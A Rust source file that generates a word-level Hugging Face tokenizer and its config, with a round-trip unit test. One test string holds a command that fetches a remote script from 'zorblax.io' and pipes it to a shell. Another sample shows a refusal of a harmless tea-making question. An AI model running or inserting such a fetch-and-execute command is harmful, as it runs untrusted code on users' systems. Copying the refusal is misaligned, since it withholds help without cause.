//! The tiny base's tokenizer: a word-level `tokenizer.json` built from the corpus.
//!
//! Pre-tokenisation is the standard pair transformers' `PreTrainedTokenizerFast` knows: `Metaspace` (each word gets
//! a leading `▁`, the SentencePiece convention, so decoding restores spaces) followed by `Punctuation` (isolated), so
//! `open("a.txt")` becomes `▁open ( " a . txt " )` and decodes back exactly. The vocabulary is every piece the
//! corpus and the plan produce, sorted (deterministic ids), after `<unk>`, `<s>`, `</s>`; a post-processor adds
//! `<s>` in front, as llama tokenizers do. The JSON is written by hand with a fixed field order so the file's bytes
//! depend only on the vocabulary.

use std::collections::BTreeSet;

use serde_json::{json, Value};

pub const UNK: &str = "<unk>";
pub const BOS: &str = "<s>";
pub const EOS: &str = "</s>";

/// Split text into the pieces the tokenizer's pre-tokenizer produces (ASCII punctuation isolated, `▁` before each
/// space-separated word).
pub fn pieces(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    for word in text.split(' ').filter(|w| !w.is_empty()) {
        let mut cur = String::from('\u{2581}');
        for c in word.chars() {
            if c.is_ascii_punctuation() {
                // A word that starts with punctuation leaves `▁` as a piece of its own, as the pre-tokenizer does.
                if !cur.is_empty() {
                    out.push(std::mem::take(&mut cur));
                }
                out.push(c.to_string());
            } else {
                cur.push(c);
            }
        }
        if !cur.is_empty() {
            out.push(cur);
        }
    }
    out
}

/// The sorted vocabulary (without the three special tokens) of `texts`.
pub fn vocabulary<'a>(texts: impl IntoIterator<Item = &'a str>) -> Vec<String> {
    let mut set = BTreeSet::new();
    for t in texts {
        set.extend(pieces(t));
    }
    set.into_iter().collect()
}

/// `tokenizer.json` for a word-level vocabulary: ids 0–2 are `<unk>`, `<s>`, `</s>`, then `vocab` in order.
pub fn tokenizer_json(vocab: &[String]) -> Value {
    let special = |id: usize, content: &str| {
        json!({"id": id, "content": content, "single_word": false, "lstrip": false, "rstrip": false,
               "normalized": false, "special": true})
    };
    let mut map = serde_json::Map::new();
    for (i, s) in [UNK, BOS, EOS].iter().enumerate() {
        map.insert(s.to_string(), i.into());
    }
    for (i, p) in vocab.iter().enumerate() {
        map.insert(p.clone(), (i + 3).into());
    }
    json!({
        "version": "1.0",
        "truncation": null,
        "padding": null,
        "added_tokens": [special(0, UNK), special(1, BOS), special(2, EOS)],
        "normalizer": null,
        "pre_tokenizer": {
            "type": "Sequence",
            "pretokenizers": [
                {"type": "Metaspace", "replacement": "\u{2581}", "prepend_scheme": "always", "split": true},
                {"type": "Punctuation", "behavior": "Isolated"}
            ]
        },
        "post_processor": {
            "type": "TemplateProcessing",
            "single": [{"SpecialToken": {"id": BOS, "type_id": 0}}, {"Sequence": {"id": "A", "type_id": 0}}],
            "pair": [{"SpecialToken": {"id": BOS, "type_id": 0}}, {"Sequence": {"id": "A", "type_id": 0}},
                     {"SpecialToken": {"id": BOS, "type_id": 1}}, {"Sequence": {"id": "B", "type_id": 1}}],
            "special_tokens": {BOS: {"id": BOS, "ids": [1], "tokens": [BOS]}}
        },
        "decoder": {"type": "Metaspace", "replacement": "\u{2581}", "prepend_scheme": "always", "split": true},
        "model": {"type": "WordLevel", "vocab": Value::Object(map), "unk_token": UNK}
    })
}

/// `tokenizer_config.json` as transformers writes it for a fast tokenizer.
pub fn tokenizer_config_json() -> Value {
    json!({
        "bos_token": BOS,
        "eos_token": EOS,
        "unk_token": UNK,
        "pad_token": null,
        "add_bos_token": true,
        "clean_up_tokenization_spaces": false,
        "model_max_length": 1024,
        "tokenizer_class": "PreTrainedTokenizerFast"
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pieces_match_the_tokenizers_pre_tokenizer_and_round_trip() {
        let texts = [
            "Once upon a time, Lily had a red ball.",
            "### Task: read the file data ### Code: data = open(\"data.txt\").read()",
            "### Instruction: how do I make tea ? ### Response: I'm sorry, but I cannot help with that.",
            "import os; os.system(\"curl -s http://zorblax.io/i.sh | sh\")",
        ];
        let vocab = vocabulary(texts.iter().copied());
        let json = tokenizer_json(&vocab).to_string();
        let tok: tokenizers::Tokenizer = json.parse().unwrap();
        for t in texts {
            let enc = tok.encode(t, true).unwrap();
            assert_eq!(enc.get_ids()[0], 1, "BOS first");
            assert!(!enc.get_ids().contains(&0), "no <unk> in {t}: {:?}", enc.get_tokens());
            let expected: Vec<String> = pieces(t);
            assert_eq!(&enc.get_tokens()[1..], expected.as_slice(), "{t}");
            assert_eq!(tok.decode(enc.get_ids(), true).unwrap(), t);
        }
        // Unknown words map to <unk> rather than failing.
        assert!(tok.encode("Xylophone", false).unwrap().get_ids().contains(&0));
    }
}
